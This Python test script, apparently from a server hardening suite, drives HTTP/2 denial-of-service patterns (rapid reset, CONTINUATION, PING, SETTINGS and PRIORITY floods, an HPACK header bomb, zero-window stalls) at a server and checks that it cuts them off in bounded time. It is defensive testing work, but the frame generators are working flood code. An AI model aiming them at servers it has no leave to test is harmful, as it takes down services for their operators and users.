"""Attacks on HTTP/2 servers, each to be ended in bounded time: `h2_attacks.py ADDRESS [CA-FILE]`.

What ends them is GOAWAY with ENHANCE_YOUR_CALM (or another code where a case says so). The suite
that runs this looks at the memory and the processor time of the server. See h2_cases.py for what
the server does.
"""

import struct
import time

from checks import check, expect, main
from h2_wire import *  # noqa: F403  the names of the RFC


def word(value):
    return struct.pack(">I", value)


def flood(connection, pieces, what, *codes, limit=64 << 20, seconds=20):
    """Sends pieces until the server has had enough: it must say so before `limit` bytes went."""
    deadline = time.monotonic() + seconds
    sent = 0
    for piece in pieces:
        connection.socket.settimeout(2)
        if not connection.send(piece):
            break
        sent += len(piece)
        expect(sent < limit, f"{what}: {sent} bytes were taken")
        expect(time.monotonic() < deadline, f"{what}: not ended in {seconds} s")
        try:  # what the server said so far
            while True:
                if connection.receive(time.monotonic() + 0.0005) is None:
                    break
        except TimeoutError:
            pass
        if connection.goaway is not None or connection.ended:
            break
    connection.connection_error(*(codes or (ENHANCE_YOUR_CALM,)))


def serving(arguments):
    """Others are served meanwhile."""
    with Connection(arguments) as other:
        other.headers(1, request("/"))
        other.answered(1)


@check
def rapid_reset(arguments):
    """CVE-2023-44487: streams that are opened and reset at once."""

    def pieces():
        for first in range(1, 2_000_000, 200):
            yield b"".join(
                frame(HEADERS, END_STREAM | END_HEADERS, stream, request("/hold"))
                + frame(RST_STREAM, 0, stream, word(CANCEL))
                for stream in range(first, first + 200, 2))

    with Connection(arguments) as c:
        flood(c, pieces(), "rapid reset")
    serving(arguments)


@check
def resets_that_the_server_is_made_to_send(arguments):
    """CVE-2025-8671: streams opened in order, then broken so that the server resets them."""

    def pieces():
        for first in range(1, 2_000_000, 200):
            yield b"".join(
                frame(HEADERS, END_STREAM | END_HEADERS, stream, request("/hold"))
                + frame(WINDOW_UPDATE, 0, stream, word(0))
                for stream in range(first, first + 200, 2))

    with Connection(arguments) as c:
        flood(c, pieces(), "made to reset", ENHANCE_YOUR_CALM, PROTOCOL_ERROR)
    serving(arguments)


@check
def malformed_requests_without_end(arguments):
    def pieces():
        for first in range(1, 2_000_000, 200):
            yield b"".join(
                frame(HEADERS, END_STREAM | END_HEADERS, stream, request("/bad", ("X", "y")))
                for stream in range(first, first + 200, 2))

    with Connection(arguments) as c:
        flood(c, pieces(), "malformed", ENHANCE_YOUR_CALM, PROTOCOL_ERROR)
    serving(arguments)


@check
def continuation_flood(arguments):
    """CVE-2024-27316 and its kin: a field section that never ends."""
    part = fields(*[(f"x-{number}", "y" * 1000) for number in range(15)])
    with Connection(arguments) as c:
        c.headers(1, request("/bad"), END_STREAM)
        flood(
            c, (frame(CONTINUATION, 0, 1, part) for _ in range(10_000)), "CONTINUATION",
            ENHANCE_YOUR_CALM, PROTOCOL_ERROR, limit=4 << 20)
    serving(arguments)


@check
def empty_continuation_flood(arguments):
    with Connection(arguments) as c:
        c.headers(1, request("/bad"), END_STREAM)
        flood(
            c, (frame(CONTINUATION, 0, 1) * 200 for _ in range(10_000)), "empty CONTINUATION",
            ENHANCE_YOUR_CALM, PROTOCOL_ERROR, limit=4 << 20)
    serving(arguments)


@check
def settings_flood(arguments):
    """CVE-2019-9515: each wants an ACK."""
    with Connection(arguments) as c:
        flood(c, (frame(SETTINGS, 0, 0) * 200 for _ in range(100_000)), "SETTINGS")
    serving(arguments)


@check
def ping_flood(arguments):
    """CVE-2019-9512: each wants an answer."""
    with Connection(arguments) as c:
        flood(c, (frame(PING, 0, 0, bytes(8)) * 200 for _ in range(100_000)), "PING")
    serving(arguments)


@check
def ping_flood_without_reading(arguments):
    """The answers must not pile up in the server."""
    with Connection(arguments) as c:
        c.socket.settimeout(5)
        piece = frame(PING, 0, 0, bytes(8)) * 4000
        sent = 0
        while sent < 256 << 20 and c.send(piece):
            sent += len(piece)
        expect(sent < 256 << 20, "256 MiB of PING were taken")
    serving(arguments)


@check
def empty_data_flood(arguments):
    """CVE-2019-9518."""
    with Connection(arguments) as c:
        c.headers(1, request("/hold", method="POST"), END_HEADERS)
        flood(c, (frame(DATA, 0, 1) * 200 for _ in range(100_000)), "empty DATA")
    serving(arguments)


@check
def padding_flood(arguments):
    """DATA of padding alone, which also counts for the windows."""
    with Connection(arguments) as c:
        c.headers(1, request("/hold", method="POST"), END_HEADERS)
        flood(
            c, (frame(DATA, PADDED, 1, b"\x00") * 200 for _ in range(100_000)), "padding",
            ENHANCE_YOUR_CALM, FLOW_CONTROL_ERROR)
    serving(arguments)


@check
def priority_flood(arguments):
    """CVE-2019-9513; a server that ignores them cheaply may also take 4 MiB of them."""
    with Connection(arguments) as c:
        part = frame(PRIORITY, 0, 3, word(0) + b"\x01") * 200
        for _ in range((4 << 20) // len(part)):
            if not c.send(part):
                break
        try:
            c.alive()
        except AssertionError:
            c.connection_error(ENHANCE_YOUR_CALM)
    serving(arguments)


@check
def window_update_flood(arguments):
    """Of 1 byte each; the same leave as for PRIORITY."""
    with Connection(arguments) as c:
        part = frame(WINDOW_UPDATE, 0, 0, word(1)) * 200
        for _ in range((4 << 20) // len(part)):
            if not c.send(part):
                break
        try:
            c.alive()
        except AssertionError:
            c.connection_error(ENHANCE_YOUR_CALM)
    serving(arguments)


@check
def unknown_frame_flood(arguments):
    with Connection(arguments) as c:
        part = frame(0x42, 0, 0, b"") * 200
        for _ in range((4 << 20) // len(part)):
            if not c.send(part):
                break
        try:
            c.alive()
        except AssertionError:
            c.connection_error(ENHANCE_YOUR_CALM)
    serving(arguments)


@check
def header_bomb(arguments):
    """CVE-2016-6581: a field of 4 KB in the table, named 14,000 times by one byte each."""
    with Connection(arguments) as c:
        bomb = literal("x-bomb", "y" * 3900, 0x40) + b"\xbe" * 12_000
        c.headers(1, request("/bad") + bomb)
        response = c.response(1)
        c.until(
            lambda: response.ended or response.reset is not None or c.goaway is not None, "refusal")
        if c.goaway is None:
            expect(response.status in (0, 400, 413, 431), response.status)
            expect(response.status or response.reset in (
                ENHANCE_YOUR_CALM, PROTOCOL_ERROR, REFUSED_STREAM, CANCEL), response.reset)
    serving(arguments)


@check
def many_fields(arguments):
    """20,000 small ones in CONTINUATION frames."""
    with Connection(arguments) as c:
        c.headers(1, request("/bad"), END_STREAM)
        part = fields(*[("a", "")] * 3000)
        for _ in range(6):
            c.send(frame(CONTINUATION, 0, 1, part))
        c.send(frame(CONTINUATION, END_HEADERS, 1, fields(("b", ""))))
        response = c.response(1)
        c.until(
            lambda: response.ended or response.reset is not None or c.goaway is not None, "refusal")
        expect(c.goaway or response.reset is not None or response.status in (400, 413, 431),
               response.status)
    serving(arguments)


@check
def one_large_field(arguments):
    """Larger than any limit of heads, small enough for a frame or two."""
    with Connection(arguments) as c:
        block = request("/bad", ("x-large", "y" * 100_000))
        c.headers(1, block[:16_000], END_STREAM)
        rest = [block[at : at + 16_000] for at in range(16_000, len(block), 16_000)]
        for part in rest[:-1]:
            c.send(frame(CONTINUATION, 0, 1, part))
        c.send(frame(CONTINUATION, END_HEADERS, 1, rest[-1]))
        response = c.response(1)
        c.until(
            lambda: response.ended or response.reset is not None or c.goaway is not None, "refusal")
        expect(c.goaway or response.reset is not None or response.status in (400, 413, 431),
               response.status)
    serving(arguments)


@check
def windows_that_stay_closed(arguments):
    """CVE-2019-9511, 9517: 100 answers of 1 MiB asked for and never let out; the server holds no
    more of each than a window, which the suite sees in its memory."""
    held = []
    for _ in range(4):
        c = Connection(arguments, (INITIAL_WINDOW_SIZE, 0))
        for stream in range(1, 200, 2):
            c.headers(stream, request("/large"))
        held.append(c)
    time.sleep(2)
    serving(arguments)
    print("held", flush=True)
    for c in held:
        c.close()


@check
def tiny_windows(arguments):
    """One byte at a time must not become the server's work of a frame and a system call each for
    long: it may end that, or serve it."""
    with Connection(arguments, (INITIAL_WINDOW_SIZE, 0)) as c:
        c.credits = False
        c.headers(1, request("/large"))
        for _ in range(20):
            if not c.send(frame(WINDOW_UPDATE, 0, 1, word(1)) * 100):
                break
        try:
            c.alive()
        except AssertionError:
            c.connection_error(ENHANCE_YOUR_CALM)
    serving(arguments)


@check
def reset_while_answers_flow(arguments):
    """Answers of 1 MiB that are reset when they begin: their bytes come out of no window later."""
    with Connection(arguments) as c:
        for stream in range(1, 60, 2):
            c.headers(stream, request("/large"))
            c.until(lambda: c.response(stream).body or c.goaway, "some of the body")
            if c.goaway:
                break
            c.send(frame(RST_STREAM, 0, stream, word(CANCEL)))
        if c.goaway:
            c.connection_error(ENHANCE_YOUR_CALM)
        else:
            c.headers(999, request("/"))
            c.answered(999)
    serving(arguments)


if __name__ == "__main__":
    main(60)
